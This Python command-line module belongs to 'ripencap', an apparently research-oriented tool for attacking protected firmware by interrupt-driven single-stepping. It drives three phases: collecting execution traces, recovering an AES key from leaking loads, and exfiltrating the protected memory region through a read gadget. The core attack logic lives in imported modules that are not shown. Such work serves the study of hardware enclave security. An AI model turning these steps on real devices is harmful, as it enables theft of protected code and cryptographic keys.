"""Command line: ``ripencap assemble | attack | estimate``."""

from __future__ import annotations

import argparse
import sys
from pathlib import Path
from typing import Optional

from .asm import AsmError, FirmwareImage, assemble
from .attack import RECORD_SIZE, AttackConfig, AttackError, Attacker, TraceDB, phase1_collect, phase3_exfiltrate
from .firmware import FIXTURES, fixture, read_image, save_image
from .memory import MemoryFault
from .peripherals import estimate_transfer_seconds

EXIT_OK, EXIT_USAGE, EXIT_ASM, EXIT_ATTACK = 0, 1, 2, 3


class _Parser(argparse.ArgumentParser):
    def error(self, message):
        self.print_usage(sys.stderr)
        self.exit(EXIT_USAGE, "%s: error: %s\n" % (self.prog, message))


class PhaseFailure(Exception):
    def __init__(self, phase: int, msg: str):
        super().__init__("phase %d: %s" % (phase, msg))
        self.phase = phase


def _load_firmware(spec: str) -> FirmwareImage:
    """A fixture name, an assembly source, or an image directory / manifest."""
    p = Path(spec)
    if not p.exists() and spec in FIXTURES:
        return fixture(spec)
    if p.suffix in (".s", ".asm"):
        return assemble(p.read_text())
    return read_image(p)


def _phases(text: str) -> tuple:
    try:
        ph = tuple(int(x) for x in text.split(","))
    except ValueError:
        raise argparse.ArgumentTypeError("phases are comma-separated integers") from None
    if ph not in ((1,), (1, 2), (1, 2, 3)):
        raise argparse.ArgumentTypeError("phases must be 1, 1,2 or 1,2,3")
    return ph


def cmd_assemble(src: str, out: str) -> int:
    try:
        image = assemble(Path(src).read_text())
    except OSError as exc:
        print("cannot read %s: %s" % (src, exc), file=sys.stderr)
        return EXIT_USAGE
    except AsmError as exc:
        print("%s:%d: %s" % (src, exc.line, exc.msg), file=sys.stderr)
        return EXIT_ASM
    manifest = save_image(image, out)
    print("wrote %s (%d segment(s), entry 0x%04X)" % (manifest, len(image.segments), image.entry))
    return EXIT_OK


def run_attack(image: FirmwareImage, phases: tuple, dumps: int, out: Path, seed: int = 0) -> dict:
    """Run the selected phases, writing every artefact under ``out``."""
    from . import aes
    from .analysis import analyze, emit_report, find_gadgets

    out.mkdir(parents=True, exist_ok=True)
    if image.ipe is None:
        raise PhaseFailure(1, "image has no protected region")
    cfg = AttackConfig(image.entry, desired_dumps=dumps, seed=seed)
    result: dict = {}
    att = Attacker(image, cfg.timer_latency, cfg.stack_top)
    try:
        trace = phase1_collect(image, cfg, attacker=att)
    except (AttackError, MemoryFault) as exc:
        raise PhaseFailure(1, str(exc)) from exc
    trace.save(out / "trace.txt")
    secs = estimate_transfer_seconds(trace.uart_bytes, 115200)
    timing = ["dumps %d" % len(trace), "uart bytes %d" % trace.uart_bytes,
              "estimate at 115200 baud: %.3f s" % secs]
    result.update(trace=trace, seconds=secs)

    if 2 in phases:
        try:
            report = analyze(image, trace, cfg, Attacker(image, cfg.timer_latency, cfg.stack_top))
        except (AttackError, MemoryFault) as exc:
            raise PhaseFailure(2, str(exc)) from exc
        (out / "report.txt").write_text(emit_report(report))
        result["report"] = report
        try:
            rec = aes.key_from_sightings(aes.load_sightings(report))
        except aes.IntegrityError:
            rec = None
        if rec is not None:
            rk = aes.round_key_seconds(rec)
            lines = [rec.key.hex(),
                     "round %d words %s" % (rec.observation.round_index,
                                            " ".join("%08x" % w for w in rec.observation.words)),
                     "tail seen at 0x%04X" % rec.tail_addr,
                     "leaking loads: " + ", ".join("0x%04X %s" % (a, report.by_addr()[a].text)
                                                   for a in rec.sites)]
            (out / "key.txt").write_text("\n".join(lines) + "\n")
            timing.append("round key exposed after %d dumps: %.3f s" % (rec.dumps_needed, rk))
            result.update(key=rec, round_key_seconds=rk)

    if 3 in phases:
        gadgets = find_gadgets(result["report"])["read"]
        if not gadgets:
            raise PhaseFailure(3, "no decoded read gadget (MOV @Rn, Rm or MOV x(Rn), Rm)")
        lo, hi = image.ipe.start, image.ipe.end
        try:
            data = phase3_exfiltrate(Attacker(image, cfg.timer_latency, cfg.stack_top),
                                     gadgets[0], lo, hi, cfg)
        except (AttackError, MemoryFault) as exc:
            raise PhaseFailure(3, str(exc)) from exc
        (out / ("ipe_0x%04X.bin" % lo)).write_bytes(data)
        result["exfiltrated"] = data
        timing.append("gadget 0x%04X read %d bytes" % (gadgets[0].addr, len(data)))

    (out / "timing.txt").write_text("\n".join(timing) + "\n")
    return result


def cmd_attack(firmware: str, phases: tuple, dumps: int, out: str, seed: int) -> int:
    try:
        image = _load_firmware(firmware)
    except AsmError as exc:
        print("%s:%d: %s" % (firmware, exc.line, exc.msg), file=sys.stderr)
        return EXIT_ASM
    except (OSError, ValueError, KeyError) as exc:
        print("cannot load firmware %s: %s" % (firmware, exc), file=sys.stderr)
        return EXIT_USAGE
    try:
        res = run_attack(image, phases, dumps, Path(out), seed)
    except PhaseFailure as exc:
        print(str(exc), file=sys.stderr)
        return EXIT_ATTACK
    print("phase 1: %d dumps, %.3f s over UART" % (len(res["trace"]), res["seconds"]))
    if "report" in res:
        print("phase 2: %.1f%% decoded" % res["report"].decoded_pct)
    if "key" in res:
        print("key: %s" % res["key"].key.hex())
    if "exfiltrated" in res:
        print("phase 3: %d bytes" % len(res["exfiltrated"]))
    return EXIT_OK


def cmd_estimate(trace: str, baud: float) -> int:
    try:
        db = TraceDB.load(trace)
    except (OSError, ValueError, IndexError) as exc:
        print("cannot read trace %s: %s" % (trace, exc), file=sys.stderr)
        return EXIT_USAGE
    if baud <= 0:
        print("baud must be positive", file=sys.stderr)
        return EXIT_USAGE
    secs = estimate_transfer_seconds(len(db) * RECORD_SIZE, baud)
    print("%d dumps x %d bytes at %g baud: %.3f s" % (len(db), RECORD_SIZE, baud, secs))
    return EXIT_OK


def build_parser() -> argparse.ArgumentParser:
    p = _Parser(prog="ripencap", description="Interrupt-driven single-stepping of protected firmware.")
    sub = p.add_subparsers(dest="cmd", required=True, parser_class=_Parser)
    a = sub.add_parser("assemble", help="assemble a source file into an image directory")
    a.add_argument("src")
    a.add_argument("out")
    t = sub.add_parser("attack", help="run attack phases against a firmware image")
    t.add_argument("--firmware", required=True,
                   help="image directory, manifest, .s source or fixture name")
    t.add_argument("--phases", type=_phases, default=(1,))
    t.add_argument("--dumps", type=int, default=0, help="stop after N dumps (0: until exit)")
    t.add_argument("--out", required=True)
    t.add_argument("--seed", type=int, default=0)
    e = sub.add_parser("estimate", help="UART transfer time for a saved trace")
    e.add_argument("--trace", required=True)
    e.add_argument("--baud", type=float, required=True)
    return p


def main(argv: Optional[list] = None) -> int:
    args = build_parser().parse_args(argv)
    if args.cmd == "assemble":
        return cmd_assemble(args.src, args.out)
    if args.cmd == "attack":
        if args.dumps < 0:
            print("--dumps must be >= 0", file=sys.stderr)
            return EXIT_USAGE
        return cmd_attack(args.firmware, args.phases, args.dumps, args.out, args.seed)
    return cmd_estimate(args.trace, args.baud)


if __name__ == "__main__":
    sys.exit(main())
